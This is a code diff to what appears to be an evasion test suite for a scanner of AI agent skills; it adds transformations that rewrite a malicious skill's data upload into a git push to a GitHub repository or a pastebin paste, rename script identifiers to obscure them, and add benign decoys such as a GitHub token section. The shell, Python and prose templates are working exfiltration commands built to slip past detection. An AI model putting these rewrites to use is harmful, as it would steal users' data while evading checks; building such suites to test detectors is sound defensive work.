@@ -1,5 +1,6 @@
 import { deflateSync } from 'node:zlib';
 import { parseDocument } from 'yaml';
+import { renameIdentifiers } from './rename-identifiers.js';
 
 // The evasion suite's transformations (eval/evasion/README.md): each rewrites a skill the way an attacker
 // would to walk around the verdict while keeping what the skill does, or, for benign skills, adds what an
@@ -248,9 +249,11 @@ function splitPython(path: string, code: string, parts = 4): Map<string, string>
 
 // Channel switching: an upload over HTTP rewritten as the same upload over another channel. In shell, a curl
 // command that uploads (-d/--data, -F field=@file, -T/--upload-file) becomes scp, a copy to a storage bucket, a
-// DNS lookup of an encoded label, or a mail over SMTP; in prose, a URL on a line that says to send something is
-// rewritten to the channel's address. What is sent and from where stays the same.
-export type Channel = 'scp' | 'bucket' | 'dns' | 'smtp';
+// DNS lookup of an encoded label, a mail over SMTP, a commit pushed to a code host or a paste on a paste site; in
+// prose, a URL on a line that says to send something is rewritten to the channel's address. What is sent and from
+// where stays the same. The last two carry the data to services every developer uses, under an account named
+// after the original host: nothing in the destination is the attacker's own.
+export type Channel = 'scp' | 'bucket' | 'dns' | 'smtp' | 'git' | 'paste';
 
 // One curl command (no pipe, separator or backtick between the program and its upload flag).
 const CURL_UPLOAD =
@@ -275,6 +278,12 @@ function bucketOf(host: string): string {
   return `${host.replace(/[^a-z0-9]+/gi, '-').toLowerCase()}-drop`;
 }
 
+const repoOf = (host: string) => `https://github.com/${bucketOf(host).replace(/-drop$/, '-sync')}/backup.git`;
+const PASTE_API = 'https://pastebin.com/api/api_post.php';
+/** A shell command that commits its standard input as one file and pushes it. */
+const gitPush = (host: string) =>
+  `(mkdir -p /tmp/.b && cd /tmp/.b && cat > data && git init -q && git add data && git commit -qm sync && git push -q ${repoOf(host)} HEAD:main)`;
+
 /** A shell line's curl upload as the same upload over `channel`; null when the line uploads nothing. */
 export function switchShellChannel(line: string, channel: Channel): string | null {
   const up = CURL_UPLOAD.exec(line);
@@ -296,6 +305,8 @@ export function switchShellChannel(line: string, channel: Channel): string | nul
       ? `nslookup "$(base64 -w0 < ${file} | cut -c1-60).${host}"`
       : `nslookup "$(${feed}base64 -w0 | cut -c1-60).${host}"`,
     smtp: `${feed}curl -s --url smtp://${host}:25 --mail-from ops@${host} --mail-rcpt drop@${host} -T ${source}`,
+    git: file ? `${gitPush(host)} < ${file}` : `${feed}${gitPush(host)}`,
+    paste: `${feed}curl -s ${PASTE_API} -d api_dev_key=3f9a0c -d api_option=paste --data-urlencode api_paste_code@${source}`,
   };
   // What came before the curl (a pipe into it) and after its URL and upload (a redirect, `|| true`) stays.
   const end = up.index + Math.max(up[0].length, url.index + url[0].length);
@@ -335,6 +346,8 @@ export function switchPythonChannel(line: string, channel: Channel): string | nu
     bucket: `__import__('boto3').client('s3').put_object(Bucket='${bucketOf(host)}', Key='in', Body=${body})`,
     dns: `__import__('socket').gethostbyname(__import__('base64').b32encode(${body}.encode()[:30]).decode().rstrip('=').lower() + '.${host}')`,
     smtp: `__import__('smtplib').SMTP('${host}', 25).sendmail('ops@${host}', ['drop@${host}'], ${body})`,
+    git: `__import__('subprocess').run('${gitPush(host).slice(1, -1)}', shell=True, input=${body}.encode())`,
+    paste: `__import__('urllib.request').request.urlopen('${PASTE_API}', __import__('urllib.parse').parse.urlencode({'api_dev_key': '3f9a0c', 'api_option': 'paste', 'api_paste_code': ${body}}).encode())`,
   };
   return `${line.slice(0, m.index)}${call[channel]}${line.slice(rest.end)}`;
 }
@@ -349,6 +362,8 @@ function switchProseChannel(line: string, channel: Channel): string | null {
     bucket: `s3://${bucketOf(host)}/in/`,
     dns: `the name <data>.${host} (encode the data into the label and look it up with nslookup)`,
     smtp: `smtp://${host}:25 (mail it to drop@${host})`,
+    git: `the repository ${repoOf(host)} (commit it and git push)`,
+    paste: `a new paste on pastebin.com (${PASTE_API}, api_option=paste)`,
   };
   return line.replace(url[0], address[channel]);
 }
@@ -363,10 +378,29 @@ function switchChannel(files: SkillFiles, channel: Channel): SkillFiles | null {
     if (!shell && !python && !MARKDOWN_FILE.test(path)) continue;
     const lines = bytes.toString('utf8').split('\n');
     let edited = false;
+    // In markdown, a fenced block's lines are code of its label's language; prose is switched outside fences.
+    let fence: string | null = null;
     const next = lines.map((line) => {
-      const switched = python
-        ? switchPythonChannel(line, channel)
-        : (switchShellChannel(line, channel) ?? (shell ? null : switchProseChannel(line, channel)));
+      const markdown = !shell && !python;
+      const opens = markdown ? /^\s*(?:`{3,}|~{3,})\s*([\w+-]*)/.exec(line) : null;
+      if (opens) {
+        fence = fence === null ? opens[1]!.toLowerCase() : null;
+        return line;
+      }
+      const language = markdown
+        ? fence === null
+          ? 'prose'
+          : /^py(?:thon)?3?$/.test(fence)
+            ? 'python'
+            : 'shell'
+        : python
+          ? 'python'
+          : 'shell';
+      const switched =
+        language === 'python'
+          ? switchPythonChannel(line, channel)
+          : (switchShellChannel(line, channel) ??
+            (language === 'prose' ? switchProseChannel(line, channel) : null));
       if (switched === null) return line;
       edited = true;
       return switched;
@@ -424,6 +458,25 @@ This skill runs its scripts with uv. If you do not have it, install it with the 
 
 \`\`\`bash
 curl -LsSf https://astral.sh/uv/install.sh | sh
+\`\`\`
+`;
+
+const OWN_TOKEN = `
+
+## Configuration
+
+The scripts read your repositories through the GitHub API with a personal access token. Create a fine-grained
+token with read-only access and export it before the first run:
+
+\`\`\`bash
+export GITHUB_TOKEN="<your token>"
+\`\`\`
+
+The token is read from the environment and sent only in the \`Authorization\` header of requests to
+api.github.com; it is never written to disk or printed. To check that it works:
+
+\`\`\`bash
+curl -s -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user
 \`\`\`
 `;
 
@@ -655,6 +708,20 @@ export const TRANSFORMATIONS: readonly Transformation[] = [
     },
   },
   {
+    id: 'renamed-identifiers',
+    applies: 'malicious',
+    description:
+      "every name the skill's scripts define (functions, classes, variables) renamed h1, h2, … across its scripts",
+    apply: (files) => {
+      const sources = new Map(scripts(files).map((p) => [p, text(files, p)!]));
+      const renamed = renameIdentifiers(sources);
+      if (!renamed) return null;
+      const out = new Map(files);
+      for (const [p, code] of renamed) out.set(p, Buffer.from(code));
+      return out;
+    },
+  },
+  {
     id: 'defanged-urls',
     applies: 'malicious',
     description: 'every URL in every text file defanged (hxxps://host[.]example/path)',
@@ -679,6 +746,8 @@ export const TRANSFORMATIONS: readonly Transformation[] = [
       ['channel-bucket', 'a copy to a storage bucket named after the host'],
       ['channel-dns', 'a DNS lookup of the data encoded into a name under the host'],
       ['channel-smtp', 'a mail over SMTP to the host'],
+      ['channel-git', 'a commit pushed to a GitHub repository named after the host'],
+      ['channel-paste', 'a paste on pastebin.com'],
     ] as const
   ).map(
     ([id, how]): Transformation => ({
@@ -759,6 +828,12 @@ export const TRANSFORMATIONS: readonly Transformation[] = [
     applies: 'benign',
     description: "an Installation section with a vendor's official curl | sh installer",
     apply: (files) => appendToSkillMd(files, VENDOR_INSTALLER),
+  },
+  {
+    id: 'own-token-docs',
+    applies: 'benign',
+    description: 'a Configuration section on the GitHub token the scripts send to the GitHub API',
+    apply: (files) => appendToSkillMd(files, OWN_TOKEN),
   },
   {
     id: 'security-title-benign',
